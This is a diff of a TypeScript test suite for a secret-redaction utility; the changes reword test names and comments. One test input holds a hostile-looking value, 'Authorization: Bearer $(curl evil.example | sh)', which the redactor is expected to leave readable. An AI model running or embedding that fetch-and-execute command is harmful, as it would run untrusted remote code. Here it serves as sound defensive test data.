@@ -38,7 +38,7 @@ describe('a name', () => {
     'max_tokens maxTokens token_count tokens outputTokens total_tokens session_length sessionTimeoutMs cookies'.split(
       ' ',
     ),
-  )('%s shows a number: it counts', (key) => {
+  )('%s shows a number, which is a count', (key) => {
     expect(one(key, 4096)).toBe(4096);
     expect(one(key, 'hunter2')).toBe(mark);
   });
@@ -47,11 +47,11 @@ describe('a name', () => {
     expect(one(key, 123456)).toBe(mark);
   });
 
-  it.each([[null], [''], [true], [false], [[]], [{}]])('never hides %j: no secret is in it', (value) => {
+  it.each([[null], [''], [true], [false], [[]], [{}]])('never hides %j, which is not a secret', (value) => {
     expect(redact({ password: value })).toEqual({ value: { password: value }, redactions: [] });
   });
 
-  it('may be added, in any style, or allowed as a whole; what is added beats what is allowed', () => {
+  it('can be added in any style, or allowed as a whole; added names override allowed ones', () => {
     const input = { userPin: '1', 'PIN-code': '2', spin: '3', session: '4', session_token: '5' };
 
     const { value } = redact(input, { keys: ['pin'], allow: ['Session', 'userPin'] });
@@ -59,7 +59,7 @@ describe('a name', () => {
     expect(value).toEqual({ userPin: mark, 'PIN-code': mark, spin: '3', session: '4', session_token: mark });
   });
 
-  it('counts as one in a pair, in a header as an object, and in an option of a command line', () => {
+  it('counts in a pair, in a header as an object, and in a command-line option', () => {
     const input = [
       ['Authorization', 'abc'],
       { name: 'X-Api-Key', value: 'abc' },
@@ -111,11 +111,11 @@ describe('a text', () => {
     'Authorization: ',
     'Authorization: Bearer $(curl evil.example | sh)',
     'sk-learn-is-a-nickname-of-a-library',
-  ])('keeps %j: a person must be able to read what runs', (text) => {
+  ])('keeps %j, because people must be able to read commands', (text) => {
     expect(redact(text)).toEqual({ value: text, redactions: [] });
   });
 
-  it('of 2,000 characters is shown, a longer one is cut to as many', () => {
+  it('of 2,000 characters is shown, and a longer one is truncated to that', () => {
     const { value, redactions } = redact(['a'.repeat(2000), 'b'.repeat(2001)]);
 
     const [whole, cut] = value as string[];
@@ -130,7 +130,7 @@ describe('a text', () => {
     ['a letter and its accent', 'e\u0301'],
     ['a skin tone', '👍🏽'],
     ['a joined emoji', '👩‍👩‍👧'],
-  ])('is never cut within %s', (_, grapheme) => {
+  ])('is never truncated within %s', (_, grapheme) => {
     const graphemes = [...new Intl.Segmenter().segment(grapheme.repeat(30))].length;
     expect(graphemes).toBe(30);
 
@@ -141,13 +141,13 @@ describe('a text', () => {
     }
   });
 
-  it('does not show the start of a secret that is longer than what fits', () => {
+  it('does not show the start of a secret that exceeds the limit', () => {
     const text = `${'a'.repeat(1950)} Bearer ${'s3cr3t'.repeat(2000)}`;
 
     expect(redact(text).value).not.toContain('s3c');
   });
 
-  it('of a megabyte of dangerous starts is read in no time', () => {
+  it('of a megabyte of dangerous beginnings is read quickly', () => {
     for (const start of [
       '://',
       'Authorization:',
@@ -165,7 +165,7 @@ describe('a text', () => {
 });
 
 describe('a list', () => {
-  it('of 50 items is shown, of a longer one the first 50', () => {
+  it('of 50 items is shown, and a longer one is truncated to 50', () => {
     const list = Array.from({ length: 60 }, (_, index) => index);
 
     expect(redact({ a: list.slice(0, 50), b: list })).toEqual({
@@ -176,10 +176,10 @@ describe('a list', () => {
   });
 });
 
-describe('what the tool says', () => {
+describe('the instructions of a tool', () => {
   const input = { path: '/a', token: '#fff', card: { number: '4111', cvc: '1' }, rows: ['a', 'b'] };
 
-  it('hides paths as well, and says how much', () => {
+  it('hide further paths, with the hidden amount', () => {
     const { value, redactions } = redact(input, { refine: () => [['card'], ['rows', 1], ['gone', 'x']] });
 
     expect(value).toEqual({ path: '/a', token: mark, card: mark, rows: ['a', mark] });
@@ -191,7 +191,7 @@ describe('what the tool says', () => {
     expect(redact(input, { refine: () => [[]] }).value).toBe(mark);
   });
 
-  it('shows paths and what is below them, unless it hides that', () => {
+  it('show paths and everything below them, except hidden paths', () => {
     const { value } = redact(input, { refine: () => ({ show: [['token'], ['card']], hide: [['card', 'number']] }) });
 
     expect(value).toEqual({ ...input, card: { number: mark, cvc: '1' } });
@@ -224,7 +224,7 @@ describe('what the tool says', () => {
     ['gives a wrong list', () => ({ show: 'token' })],
   ];
 
-  it.each(failures)('hides every text and number when it %s', (_, refine) => {
+  it.each(failures)('hide every string and number if it %s', (_, refine) => {
     const { value } = redact({ a: 'x', b: [1, true, null], c: { d: 'y' } }, { refine: refine as () => JSONPath[] });
 
     expect(value).toEqual({ a: mark, b: [mark, true, null], c: { d: mark } });
@@ -253,10 +253,10 @@ describe('any value', () => {
     ),
   }));
   const options = { maxText: 30, maxItems: 5 };
-  /** Where a value was planted, and what leads there. */
+  /** The path of a planted value. */
   const planted = fc.tuple(fc.array(fc.oneof(key, fc.nat(3)), { maxLength: 12 }), secretKey, json, json);
 
-  it('is copied as JSON of the same structure, without a change to it', () => {
+  it('is copied as JSON of the same structure, and is not changed', () => {
     fc.assert(
       fc.property(json, (value) => {
         const before = JSON.stringify(value);
@@ -270,7 +270,7 @@ describe('any value', () => {
     );
   });
 
-  it('is redacted once and for all', () => {
+  it('does not change when it is redacted again', () => {
     fc.assert(
       fc.property(json, (value) => {
         const once = redact(value, options).value;
@@ -280,7 +280,7 @@ describe('any value', () => {
     );
   });
 
-  it('shows nothing of what stands below the name of a secret, at any depth, and nor do its redactions', () => {
+  it('reveals nothing below the name of a secret, at any depth, including its redactions', () => {
     fc.assert(
       fc.property(planted, fc.boolean(), ([path, name, beside, around], isDeep) => {
         const secret = 'S3CR3T-9f8e7d';
@@ -298,7 +298,7 @@ describe('any value', () => {
     );
   });
 
-  it('may be 256 levels deep; what is deeper is hidden', () => {
+  it('may be 256 levels deep; deeper values are hidden', () => {
     const nest = (depth: number, inner: JSONValue): JSONValue =>
       Array.from({ length: depth }).reduce<JSONValue>((value) => ({ a: value }), inner);
 
@@ -307,7 +307,7 @@ describe('any value', () => {
     expect(redact(nest(100_000, 'deep')).redactions).toEqual([expect.objectContaining({ reason: 'too-deep' })]);
   });
 
-  it('may have members called __proto__, which stay members', () => {
+  it('may have members with the name __proto__, which stay members', () => {
     const { value } = redact(JSON.parse('{ "__proto__": { "password": "hunter2", "a": 1 } }'));
 
     expect(JSON.stringify(value)).toBe(`{"__proto__":{"password":"${mark}","a":1}}`);
@@ -315,7 +315,7 @@ describe('any value', () => {
   });
 });
 
-/** The same members everywhere but where something is hidden or cut. */
+/** Returns the same members, except where something is hidden or truncated. */
 function isSameShape(value: JSONValue, shown: JSONValue): boolean {
   if (shown === mark) return true;
   if (typeof value !== 'object' || value === null) return typeof value === typeof shown;
